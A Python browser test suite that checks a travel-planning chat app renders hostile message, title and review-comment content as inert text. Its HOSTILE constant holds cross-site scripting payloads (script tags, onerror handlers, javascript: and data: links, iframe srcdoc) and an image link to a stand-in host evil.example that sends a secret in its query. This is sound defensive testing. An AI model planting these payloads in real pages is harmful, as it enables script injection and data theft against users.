"""What a message says is shown and never run, also where no content security policy helps: under plain app.py."""

from collections.abc import Callable
from functools import partial

import httpx
import pytest
from playwright.sync_api import Page, expect

from db.migrate import migrate
from db.models import utc_now
from services.reviews.records import DecisionKind
from services.reviews.visits import new_reader_key
from tests.helpers.browser import App
from tests.helpers.planners import add_planner, database_of
from tests.helpers.reviews import Reviews

pytestmark = pytest.mark.browser

HOSTILE = """
<script>window.ran = "script"</script><img src="x" onerror="window.ran = 'image'"><svg onload="window.ran = 'svg'">

[by address](javascript:window.ran="link") [by data](data:text/html,<script>opener.ran="data"</script>)
<a href="javascript:window.ran='tag'">by tag</a> [by case](JaVaScRiPt:window.ran="case")

<iframe srcdoc="<script>parent.ran = 'frame'</script>"></iframe>

![picture](https://evil.example/?secret=1)

The end
"""


def nothing_ran(page: Page) -> None:
    """See that nothing of a hostile text has run on a page, in a tab that it opened, or could run."""
    assert page.evaluate("window.ran") is None
    assert page.evaluate("document.querySelectorAll('main iframe, [srcdoc], [onclick], [onerror]').length") == 0
    assert (
        page.evaluate("[...document.querySelectorAll('a')].filter(link => /^javascript/i.test(link.href)).length")
        == 0
    )
    assert [tab.evaluate("window.ran") for tab in page.context.pages] == [None] * len(page.context.pages)


def test_nothing_that_a_message_says_is_run_or_fetched(page: Page, start_app: Callable[..., App]) -> None:
    app = start_app()
    planner = add_planner(app)
    planner.sign_in(page.context)
    with httpx.Client(base_url=f"{app.url}/api", trust_env=False, timeout=30) as program:
        program.headers["Authorization"] = f"Bearer {planner.new_token()}"
        session = program.post("/sessions", json={"title": "<b onclick=alert(1)>Bold</b>"}).json()["session_id"]
        for role in ("user", "assistant", "system"):
            answer = program.post(f"/sessions/{session}/messages", json={"role": role, "content": HOSTILE})
            assert answer.status_code == 201, answer.text
    app.kill()
    app = start_app(script="app.py")
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))

    page.goto(f"{app.url}/?session={session}")
    expect(page.get_by_text("The end")).to_have_count(3)
    for link in page.get_by_test_id("stMain").get_by_role("link", name="by ").all():
        link.click()

    nothing_ran(page)
    assert not [url for url in asked if "evil.example" in url]
    expect(page.get_by_text("<b onclick=alert(1)>Bold</b>").first).to_be_attached()


def test_nothing_that_anybody_says_on_a_review_is_run_or_fetched(page: Page, start_app: Callable[..., App]) -> None:
    app = start_app(script="app.py")
    key, passage = new_reader_key(), '<script>window.ran = "script"</script>'
    with database_of(app) as database:
        migrate(database)  # `app.py` alone does so at the first visit
        reviews, planner = Reviews(database, now=utc_now()), add_planner(app)
        session_id = reviews.session(planner.id, (HOSTILE, HOSTILE), title=HOSTILE[:80])
        link = reviews.share(session_id, planner.id, audience=HOSTILE[:80], note=HOSTILE)
        visit = reviews.visits.look(link.token, key)
        said, answered = (block.anchor for block in visit.snapshot.blocks)
        comment = partial(reviews.visits.comment, link.token, name=HOSTILE[:80])
        comment(new_reader_key(), HOSTILE, anchor=said, passage=passage)
        comment(new_reader_key(), HOSTILE, anchor=answered)
        reviews.visits.decide(
            link.token, key, DecisionKind.DECLINE, name=HOSTILE[:80], note=HOSTILE, sha256=visit.version.sha256
        )
        reviews.say(session_id, HOSTILE, HOSTILE)
        reviews.links.share_again([link.review.id], user_id=planner.id)
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    page.context.add_cookies([{"name": "travelbot_reviewer", "value": key, "url": app.url}])

    page.goto(f"{app.url}/review?link={link.token}")
    expect(page.get_by_text("2 new comments for you")).to_be_visible()
    page.get_by_role("button", name="Show what changed").click()
    expect(page.locator(".st-key-review_changes_list")).to_contain_text("The end")
    for comments in page.get_by_role("button", name="1 comment").all():
        comments.click()
    expect(page.locator('[class*="st-key-review_comment_"]').get_by_text("The end")).to_have_count(2)
    for link_ in page.get_by_test_id("stMain").get_by_role("link", name="by ").all():
        link_.click()

    nothing_ran(page)
    assert not [url for url in asked if "evil.example" in url]
